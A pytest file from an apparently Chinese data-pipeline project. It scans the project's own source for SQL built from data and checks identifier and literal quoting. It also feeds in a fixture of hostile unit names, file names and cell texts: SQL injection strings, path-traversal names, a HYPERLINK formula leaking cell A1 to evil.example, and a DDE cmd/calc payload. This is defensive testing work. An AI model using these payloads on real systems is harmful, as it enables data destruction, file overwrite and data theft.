"""Injection (issue #11): no text from outside ever becomes SQL, a file name outside its folder, or a formula.

- The source of every kepu module is read (its syntax tree, not a run): every SQL statement built as a
  string may interpolate only what `kepu.warehouse.identifiers` lets through (a plain lower-case name, a
  quoted constant), a module constant, kepu's own SQL files, or another string built the same way. Data is
  bound as a parameter. A new `f"select … {value}"` fails here, naming its file and line.
- `identifier()` refuses every hostile name; `literal()` keeps a quote inside its literal.
- A city whose unit names, file names and cell texts are SQL, paths and formulas runs like any other: the
  totals are right, every table is still there, each 回执 lands in 回执/ under a safe name.
"""

from __future__ import annotations

import ast
import re
from pathlib import Path

import duckdb
import pytest

import kepu
from kepu.warehouse.identifiers import columns_or_nulls, identifier, identifiers, literal, literals
from tests.builders import UNITS, activity, make_city, query

SQL_STATEMENT = re.compile(r"\b(select|insert|delete|update|create|drop|alter|describe|attach|copy|pragma)\s",
                           re.IGNORECASE)
SQL_CLAUSE = re.compile(r"\b(from|into|table|schema|where|view|set|values|by name)\b", re.IGNORECASE)
EXECUTING = {"execute", "executemany", "sql", "query", "from_query"}

SAFE_CALLS = {"identifier", "identifiers", "columns_or_nulls", "literal", "literals", "sql_text", "issue_sql"}
"""What string-built SQL may call to get its pieces: kepu.warehouse.identifiers (each checks or quotes what
it is given) and kepu's own SQL files (warehouse/sql, rendered from its vocabulary)."""


def package_modules() -> list[Path]:
    root = Path(kepu.__file__).resolve().parent.parent
    folders = [root / name for name in ("kepu", "flows", "schemas", "transforms", "warehouse")]
    return sorted(p for folder in folders for p in folder.rglob("*.py") if "__pycache__" not in p.parts)


def looks_like_sql(node: ast.JoinedStr) -> bool:
    text = " ".join(v.value for v in node.values if isinstance(v, ast.Constant))
    return bool(SQL_STATEMENT.search(text) and SQL_CLAUSE.search(text))


def is_constant_name(node: ast.AST) -> bool:
    name = node.id if isinstance(node, ast.Name) else node.attr if isinstance(node, ast.Attribute) else ""
    return bool(re.fullmatch(r"_?[A-Z][A-Z0-9_]*", name))


def safe_piece(node: ast.AST) -> bool:
    """Whether an interpolated expression is one of the shapes string-built SQL may hold."""
    if isinstance(node, ast.Constant):
        return isinstance(node.value, str | int | float) or node.value is None
    if isinstance(node, ast.JoinedStr):
        return all(safe_piece(v.value) for v in node.values if isinstance(v, ast.FormattedValue))
    if isinstance(node, ast.Name | ast.Attribute) and is_constant_name(node):
        return True
    if isinstance(node, ast.IfExp):  # 'or replace ' if replace else ''
        return safe_piece(node.body) and safe_piece(node.orelse)
    if isinstance(node, ast.Call):
        func = node.func
        name = func.id if isinstance(func, ast.Name) else func.attr if isinstance(func, ast.Attribute) else ""
        if name in SAFE_CALLS:
            return True
        if name == "join" and isinstance(func, ast.Attribute) and isinstance(func.value, ast.Constant):
            (argument,) = node.args  # " union all ".join(f"({sql_text(…)})" for check in CHECKS)
            element = argument.elt if isinstance(argument, ast.GeneratorExp | ast.ListComp) else argument
            return safe_piece(element)
    return False


def unsafe_sql(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    found = []
    for node in ast.walk(tree):
        built = None
        if isinstance(node, ast.JoinedStr) and looks_like_sql(node):
            built = node
        elif (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in EXECUTING
              and node.args and isinstance(node.args[0], ast.BinOp | ast.Call | ast.JoinedStr)):
            built = node.args[0]  # "…" + x, "…" % x, "…".format(x) handed to DuckDB
            if isinstance(built, ast.Call) and not (isinstance(built.func, ast.Attribute)
                                                    and built.func.attr in ("format", "join")):
                built = None if safe_piece(built) or not isinstance(built.func, ast.Attribute) else built
        if built is None:
            continue
        if isinstance(built, ast.JoinedStr):
            bad = [v.value for v in built.values if isinstance(v, ast.FormattedValue) and not safe_piece(v.value)]
        elif isinstance(built, ast.BinOp):
            bad = [side for side in (built.left, built.right) if not safe_piece(side)]
        else:
            bad = [] if safe_piece(built) else [built]
        found += [f"{path.name}:{piece.lineno}: {ast.unparse(piece)}" for piece in bad]
    return found


def test_the_scan_covers_the_modules_that_talk_to_duckdb():
    names = {p.name for p in package_modules()}
    assert {"loader.py", "publisher.py", "queries.py", "build.py", "schema.py", "nightly.py", "cli.py"} <= names


def test_no_sql_is_built_from_data():
    found = [line for path in package_modules() for line in unsafe_sql(path)]
    assert found == [], "SQL built from something other than kepu's own names (bind it as a parameter, or " \
                        "pass a name through kepu.warehouse.identifiers):\n" + "\n".join(found)


@pytest.mark.parametrize("source", [
    'con.execute(f"select * from raw.files where path = \'{path}\'")',
    'con.execute("delete from raw.files where sha256 = \'" + sha + "\'")',
    'con.execute("select * from {}".format(table))',
    'sql = f"insert into core.units by name select \'{row.unit_name}\' as unit_name"',
    'con.sql(f"select {column} from core.activities")',
])
def test_the_scan_finds_sql_built_from_data(tmp_path, source):
    module = tmp_path / "leaky.py"
    module.write_text(source + "\n", encoding="utf-8")
    assert unsafe_sql(module), source


@pytest.mark.parametrize("source", [
    'con.execute(f"delete from {identifier(table)} where campaign_id = ?", [campaign_id])',
    'con.execute(f"select {columns_or_nulls(names, present)} from raw.files where campaign_id = ?", [cid])',
    'con.execute(f"select * from raw.files where status in {literals(STATUSES)}")',
    'con.execute(f"insert {\'or replace \' if replace else \'\'}into {identifier(t)} by name select 1")',
])
def test_the_scan_lets_kepus_own_names_through(tmp_path, source):
    module = tmp_path / "owned.py"
    module.write_text(source + "\n", encoding="utf-8")
    assert unsafe_sql(module) == []


HOSTILE_NAMES = ["raw.files; drop table raw.files", "files--", "a b", "x'y", 'x"y', "东升街道", "", "Files",
                 "raw.files.extra", "1files", "files\n", "files)", "x" * 64 + "y"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_identifier_refuses_every_name_that_is_not_plain(name):
    with pytest.raises(ValueError):
        identifier(name)
    with pytest.raises(ValueError):
        identifiers(["campaign_id", name])
    with pytest.raises(ValueError):
        columns_or_nulls([name], present=[name])


def test_identifier_lets_kepus_names_through():
    assert identifier("raw.activity_rows") == "raw.activity_rows"
    assert identifiers(["campaign_id", "sha256"]) == "campaign_id, sha256"
    assert columns_or_nulls(["source", "sender"], present={"source"}) == "source, null as sender"


def test_literals_are_quoted_as_sql_quotes_them():
    con = duckdb.connect()
    evil = "x'); drop table t; --"
    con.execute("create table t (v varchar)")
    assert con.execute(f"select {literal(evil)}").fetchone()[0] == evil
    assert con.execute(f"select 'a' in {literals(['a'])}, 'b' in {literals([])}").fetchone() == (True, None)
    assert con.execute("select count(*) from t").fetchone()[0] == 0


SQL_NAME = "东升街道'); drop table core.activities; --"
PATH_NAME = "../../../etc/九江街道"
FORMULA = '+HYPERLINK("http://evil.example/?"&A1,"点击")'  # text, as a clerk typed it (a leading = would be a formula)


@pytest.fixture
def hostile_city(tmp_path, prefect_harness):
    units = [u for u in UNITS if u[0] not in ("D01T01", "D01T02", "S001")] + [
        ("D01T01", SQL_NAME, "street", "D01", "", "true"),
        ("D01T02", PATH_NAME, "street", "D01", "CON", "true"),
        ("S001", "江源市第一中学", "school", "C000", "", "true"),
    ]
    city = make_city(tmp_path / "city", units=units)
    city.submit("'; drop table raw.files; --.xlsx", "D01T01",
                [activity("科普讲座'); delete from core.activities; --", 17, 120, venue="村委会' or '1'='1")],
                unit_name=SQL_NAME)
    city.submit("..%2f..%2fetc/CON.xlsx", "D01T02", [activity(FORMULA, 18, 80, organizer="@SUM(1+1)*cmd|' /C calc'!A0")],
                unit_name=PATH_NAME)
    city.submit("一中.xlsx", "S001", [activity("+1+1", 19, 50), activity("-2+3", 20, 30)])
    return city


def test_hostile_names_and_texts_are_only_data(hostile_city, tmp_path):
    from kepu.flows.nightly import run

    summary = run(hostile_city.config)
    assert summary.outcome == "published"
    warehouse = hostile_city.warehouse
    assert query(warehouse, "select activities, participants from marts.city_totals") == [(4, 280)]
    assert query(warehouse, "select count(*) from raw.files")[0][0] == 3
    names = {r[0] for r in query(warehouse, "select activity_name from core.activities")}
    assert "科普讲座'); delete from core.activities; --" in names and FORMULA in names
    assert query(warehouse, "select unit_name from core.units where unit_code = 'D01T01'") == [(SQL_NAME,)]

    out = hostile_city.root / "out"
    written = [p for p in out.rglob("*") if p.is_file()]
    assert written and all(p.resolve().is_relative_to(out.resolve()) for p in written)
    receipts = sorted(p.name for p in (out / "2023-science-day" / "回执").iterdir())
    assert all("/" not in n and "\\" not in n and not n.startswith(".") for n in receipts), receipts
    assert not (tmp_path / "etc").exists() and not (hostile_city.root / "etc").exists()
